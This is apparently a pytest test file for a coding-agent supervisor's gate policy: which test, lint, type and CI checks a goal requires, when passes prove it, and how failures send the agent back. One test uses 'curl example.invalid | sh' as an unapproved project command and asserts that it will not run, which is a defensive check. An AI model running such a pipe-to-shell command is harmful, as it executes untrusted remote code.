"""Which checks apply to a goal, and what they decide."""

from __future__ import annotations

from typing import Any

import pytest
from msgspec.structs import replace
from sidecar.evidence.gates.conditions import gate_kinds_named

from sidecar.evidence.gates.policy import (
    APPROVE_HINT,
    advisory_gates,
    build_gate_baseline,
    describe_checks,
    gates_prove_condition,
    new_gate_failures,
    required_gates,
    runnable_gates,
    without_outvoted,
)
from sidecar.kernel.events import ProjectState
from sidecar.kernel.evidence import CheckChange, FindingSeverity, IntegrityFinding
from sidecar.kernel.gate import AvailableGates, Gate, GateOrigin, GateRun, Kind, Outcome
from sidecar.kernel.goal import GoalStatus
from support.cases import (
    PYTEST,
    RUBRIC,
    TREE,
    after,
    complete,
    gate_run,
    goal,
    judged,
    said,
    session,
    turn,
    with_goal,
)
from support.play import World, play
from support.table import over_table


def offering(*gates: Gate, **fields: Any) -> ProjectState:
    return ProjectState(
        **{"tree": TREE, "rubric": RUBRIC, "catalog": AvailableGates(gates), "changed": ("a.py",), **fields}
    )


def needed(gate: Gate = PYTEST, outcome: Outcome = Outcome.PASSED, **fields: Any) -> GateRun:
    return gate_run(replace(gate, required=True), outcome, **fields)


CHECK = Gate(id="check:1", command="make", why="you named it with --check", required=True)
FAILED, COULD_NOT_RUN = Outcome.FAILED, Outcome.COULD_NOT_RUN

SPEAKS_OF_TESTS = (
    "all tests pass",
    "the test suite is green",
    "pytest passes",
    "every spec is green",
    "add a login page with tests",
    "The Test of time is written",
)
OF_SOMETHING_ELSE = (
    "the docs build",
    "the greatest hits play",
    "latest version is used",
    "inspect the contest",
    "testing is documented",
    "all checks pass",
)


@pytest.mark.parametrize("condition", SPEAKS_OF_TESTS)
def test_a_goal_that_speaks_of_tests_requires_the_detected_runner(condition: str) -> None:
    (gate,) = required_gates(goal(condition), offering(PYTEST))
    assert (gate.id, gate.command, gate.required, gate.counts) == ("tests", "pytest -q", True, True)
    assert gate.why == "the goal speaks of tests; pyproject.toml names pytest"


@pytest.mark.parametrize("condition", OF_SOMETHING_ELSE)
def test_a_goal_that_speaks_of_something_else_runs_nothing(condition: str) -> None:
    assert required_gates(goal(condition), offering(PYTEST)) == ()


@pytest.mark.parametrize("condition", SPEAKS_OF_TESTS)
def test_nothing_is_run_where_no_runner_was_detected(condition: str) -> None:
    assert required_gates(goal(condition), offering()) == ()


def test_checks_come_first_in_the_order_in_which_they_were_typed() -> None:
    gates = required_gates(goal("tests pass", checks=("make", "make docs")), offering(PYTEST))
    assert [(gate.id, gate.command, gate.required) for gate in gates] == [
        ("check:1", "make", True),
        ("check:2", "make docs", True),
        ("tests", "pytest -q", True),
    ]


DECIDED = (
    "all tests pass",
    "All tests pass.",
    "the tests pass!",
    "tests pass",
    "make sure that all the tests are passing",
    "please get the test suite green",
    "every test passes",
    "the whole unit tests are green again",
    "pytest succeeds",
    "the tests must pass now",
    "  ensure our tests pass  ",
)
NOT_DECIDED = (
    "all tests pass and the docs are written",
    "all tests pass except the slow ones",
    "add tests for the parser and make them pass",
    "the tests do not pass",
    "no tests pass",
    "half of the tests pass",
    "the tests for the parser pass",
    "all tests pass on windows",
    "the tests never pass",
    "the tests",
    "write a test",
    "all tests passed by hand are documented",
    "",
)


@over_table("condition", DECIDED)
def test_passed_tests_alone_show_that_the_tests_pass(condition: str) -> None:
    assert gates_prove_condition(goal(condition), [needed()], offering())


@over_table("condition", NOT_DECIDED)
def test_passed_tests_alone_show_nothing_more_than_that(condition: str) -> None:
    assert not gates_prove_condition(goal(condition), [needed()], offering())


@over_table(
    ("condition", "runs"),
    [
        ("all tests pass", []),
        ("all tests pass", [gate_run(CHECK)]),
        ("all tests pass", [needed(outcome=FAILED)]),
        ("all tests pass", [needed(outcome=COULD_NOT_RUN)]),
        ("all tests pass", [needed(tree="another")]),
        ("all checks pass", []),
        ("all checks pass", [gate_run(CHECK, FAILED)]),
        ("all checks pass", [gate_run(CHECK, tree="another")]),
        ("all tests pass", [needed(flaky=True)]),
        ("all tests pass", [needed(moved=True)]),
        ("all tests pass", [needed(), gate_run(CHECK, tree="another")]),
        ("lint and tests pass", [needed()]),
        ("tests and the build pass", [needed()]),
        ("types check", [needed()]),
    ],
)
def test_only_a_gate_of_the_kind_that_passed_on_this_tree_decides(
    condition: str, runs: list[GateRun]
) -> None:
    assert not gates_prove_condition(goal(condition), runs, offering())


def test_any_passed_check_decides_that_the_checks_pass() -> None:
    assert gates_prove_condition(goal("all checks pass"), [gate_run(CHECK)], offering())


LINT = Gate(
    id="lint",
    command="ruff check",
    why="pyproject.toml has [tool.ruff]",
    kind=Kind.LINT,
    origin=GateOrigin.DETECTED,
    alone=False,
)
MYPY = replace(LINT, id="types", command="mypy", kind=Kind.TYPES)
CI = replace(LINT, id="ci", command="gh pr checks", kind=Kind.CI, approved=True)
OF_KINDS = {
    "all tests pass": {Kind.TESTS},
    "lint is clean": {Kind.LINT},
    "ruff and mypy pass": {Kind.LINT, Kind.TYPES},
    "types check": {Kind.TYPES},
    "tests, types and lint pass": {Kind.TESTS, Kind.TYPES, Kind.LINT},
    "the build passes": {Kind.BUILD},
    "build and tests pass": {Kind.BUILD, Kind.TESTS},
    "build a login page": set[Kind](),
    "coverage is at least 90": {Kind.COVERAGE},
    "a pull request is open": {Kind.PR},
    "CI is green": {Kind.CI},
    "specific prices are shown": set[Kind](),
    "no known vulnerabilities are left": {Kind.SECURITY},
    "all types of users can log in": set[Kind](),
}


@over_table(("condition", "kinds"), OF_KINDS.items())
def test_a_condition_names_kinds_of_gates(condition: str, kinds: set[Kind]) -> None:
    assert gate_kinds_named(condition) == kinds


def test_a_goal_requires_every_gate_of_the_kinds_it_names_and_approves_what_was_detected() -> None:
    member = replace(PYTEST, id="tests:api", folder="api")
    gates = required_gates(goal("all tests pass"), offering(PYTEST, LINT, member))
    assert [gate.id for gate in gates] == ["tests", "tests:api"]
    assert runnable_gates(gates) == gates


def test_a_gate_that_the_projects_file_requires_may_run_only_once_it_is_approved() -> None:
    own = replace(LINT, origin=GateOrigin.PROJECT, required=True)
    project_state = offering(own, replace(own, id="types", approved=True))
    gates = required_gates(goal(), project_state)
    assert [gate.id for gate in gates] == ["lint", "types"]
    assert [gate.id for gate in runnable_gates(gates)] == ["types"]


def test_a_goals_words_do_not_approve_what_the_projects_file_names() -> None:
    own = replace(PYTEST, origin=GateOrigin.PROJECT, command="curl example.invalid | sh")
    (gate,) = required_gates(goal("all tests pass"), offering(own))
    assert runnable_gates([gate]) == ()


def test_only_approved_gates_advise_and_only_where_something_changed() -> None:
    seen = replace(LINT, approved=True)
    there, elsewhere = replace(seen, id="lint:api", folder="api"), replace(seen, id="lint:web", folder="web")
    project_state = offering(PYTEST, MYPY, seen, there, elsewhere, CI, changed=("api/a.py",))
    assert [gate.id for gate in advisory_gates(goal("all tests pass"), project_state)] == ["lint", "lint:api"]
    unknown = replace(project_state, changed=None)
    assert [gate.id for gate in advisory_gates(goal("all tests pass"), unknown)] == [
        "lint",
        "lint:api",
        "lint:web",
    ]


def test_ci_is_required_where_the_goal_speaks_of_it() -> None:
    assert [gate.id for gate in required_gates(goal("CI is green"), offering(CI))] == ["ci"]
    assert required_gates(goal("all is well"), offering(CI)) == ()


@pytest.mark.parametrize(
    "project_state",
    [
        offering(
            findings=(
                IntegrityFinding(
                    change=CheckChange.OLD_FAILURE_REMAINS, weight=FindingSeverity.GRAVE, file="t.py", line=1
                ),
            )
        ),
        offering(
            findings=(
                IntegrityFinding(
                    change=CheckChange.NOT_COMPARED, weight=FindingSeverity.SHOWN, file="t", line=1
                ),
            )
        ),
        offering(unseen="git is not there"),
    ],
)
def test_gates_decide_nothing_while_a_change_to_the_checks_is_unweighed_or_unseen(
    project_state: ProjectState,
) -> None:
    assert not gates_prove_condition(goal("all tests pass"), [needed()], project_state)
    assert gates_prove_condition(goal("all tests pass"), [needed()], offering())


UNDECIDED = 'No check decides this. To name one: /supervisor:goal CONDITION --check "command".'


def test_a_passing_check_of_the_users_is_not_outvoted_by_a_detected_gate_that_could_not_run() -> None:
    detected = gate_run(replace(PYTEST, required=True), COULD_NOT_RUN)
    typed = gate_run(CHECK)
    assert [run.gate.required for run in without_outvoted([typed, detected])] == [True, False]
    assert without_outvoted([gate_run(CHECK, FAILED), detected])[1].gate.required
    assert without_outvoted([typed, gate_run(replace(PYTEST, required=True), FAILED)])[1].gate.required
    assert without_outvoted([detected])[0].gate.required


@pytest.mark.parametrize(
    ("condition", "gates", "said"),
    [
        ("all tests pass", [PYTEST], "Will be run at each stop: `pytest -q`."),
        (
            "the linter is clean",
            [replace(LINT, origin=GateOrigin.PROJECT, folder="api")],
            f"Not approved, so not run: `ruff check` in api; {APPROVE_HINT}.",
        ),
        (
            "the docs are good",
            [PYTEST],
            f"{UNDECIDED} Not approved, so not run: `pytest -q`; {APPROVE_HINT}.",
        ),
        (
            "the docs are good",
            [replace(PYTEST, approved=True)],
            f"{UNDECIDED} New failures of `pytest -q` count, too.",
        ),
        ("the docs are good", [], UNDECIDED),
    ],
)
def test_a_new_goal_says_what_will_be_run_and_what_to_type(
    condition: str, gates: list[Gate], said: str
) -> None:
    assert describe_checks(goal(condition), offering(*gates)) == said


LINT_FAILS = gate_run(LINT, FAILED, failing=("a.py: F401", "b.py: F401"))


def test_only_failures_that_were_not_there_before_are_new() -> None:
    before = build_gate_baseline([gate_run(LINT, FAILED, failing=("a.py: F401",))])
    assert new_gate_failures(LINT_FAILS, before) == ("b.py: F401",)
    assert new_gate_failures(LINT_FAILS, build_gate_baseline([LINT_FAILS])) == ()
    assert new_gate_failures(LINT_FAILS, build_gate_baseline([gate_run(LINT)])) == (
        "a.py: F401",
        "b.py: F401",
    )
    assert new_gate_failures(gate_run(LINT), before) == ()


@pytest.mark.parametrize(
    "before",
    [
        [],
        [gate_run(LINT, COULD_NOT_RUN)],
        [gate_run(MYPY, FAILED, failing=("a.py: F401",))],
        [gate_run(replace(LINT, command="ruff check ."), FAILED, failing=("a.py: F401",))],
        [gate_run(LINT, FAILED)],
    ],
)
def test_without_a_baseline_of_the_same_command_nobody_knows_what_is_new(before: list[GateRun]) -> None:
    assert new_gate_failures(LINT_FAILS, build_gate_baseline(before)) is None


TESTS_PASS = with_goal("all tests pass")


def test_tests_that_pass_achieve_the_goal_without_a_model() -> None:
    played = play(TESTS_PASS, World(runner=PYTEST))
    assert played.goal.status is GoalStatus.ACHIEVED
    assert played.rest.detail == "`pytest -q` passed (5 tests) on the files as they are"
    assert played.case is None


def test_tests_that_fail_send_the_agent_back_with_what_failed() -> None:
    played = play(TESTS_PASS, World(runner=PYTEST, outcomes={"tests": FAILED}))
    assert played.kind == "gates-failed"
    assert played.sent_back.feedback.missing == ("test_a", "`pytest -q` fails (exit code 1)")
    assert [fact.id for fact in played.sent_back.feedback.evidence] == ["E1"]
    assert played.case is None


def test_passed_checks_do_not_replace_the_judge_where_the_condition_says_more() -> None:
    played = play(with_goal(checks=("make",)), World(judge=judged(complete("E1"))))
    assert played.goal.status is GoalStatus.ACHIEVED
    assert played.case is not None
    assert played.case.evidence[0].fact == "Supervisor ran `make`: passed"


def test_a_pass_on_another_tree_decides_nothing() -> None:
    world = World(runner=PYTEST, moved="another", judge=judged(complete("E1")))
    played = play(TESTS_PASS, world)
    assert played.kind == "unjudged"
    assert played.goal.status is GoalStatus.ACTIVE


def test_the_agent_is_asked_once_to_make_a_gate_run_and_then_the_goal_is_unverified() -> None:
    world = World(runner=PYTEST, outcomes={"tests": COULD_NOT_RUN})
    first = play(TESTS_PASS, world)
    assert first.kind == "gates-could-not-run"
    assert first.sent_back.feedback.missing == ("`pytest -q` could not run: the command was not found",)
    assert first.goal.asked_to_run == ("tests",)
    reached = turn(arrived=(first.sent_back.feedback.id,), last_message_id="m2")
    second = play(first.session, World(turn=reached, runner=PYTEST, outcomes={"tests": COULD_NOT_RUN}))
    assert second.goal.status is GoalStatus.UNVERIFIED
    assert second.rest.alarm


def test_a_gate_that_could_not_run_never_achieves_even_on_the_last_continuation() -> None:
    before = session(goal=after(16, condition="all tests pass"), pending=said())
    played = play(before, World(runner=PYTEST, outcomes={"tests": COULD_NOT_RUN}))
    assert played.goal.status is GoalStatus.EXHAUSTED


def test_a_gate_is_asked_for_again_where_the_continuation_that_asked_was_lost() -> None:
    world = World(runner=PYTEST, outcomes={"tests": COULD_NOT_RUN})
    first = play(TESTS_PASS, world)
    second = play(first.session, world)
    assert second.kind == "gates-could-not-run"
    assert second.goal.status is GoalStatus.ACTIVE


def test_a_typed_check_that_is_a_gate_of_the_project_runs_once_and_shows_what_that_gate_shows() -> None:
    there = offering(PYTEST)
    typed = goal("all tests pass", checks=(PYTEST.command,))
    (check,) = required_gates(typed, there)
    assert (check.id, check.command, check.kind, check.counts) == (
        "check:1", PYTEST.command, PYTEST.kind, PYTEST.counts,
    )  # fmt: skip
    assert advisory_gates(typed, there) == ()


def test_the_same_command_in_another_folder_is_another_gate() -> None:
    elsewhere = replace(PYTEST, id="tests:web", folder="web")
    typed = goal("all tests pass", checks=(PYTEST.command,))
    assert [gate.id for gate in required_gates(typed, offering(elsewhere))] == ["check:1", "tests:web"]
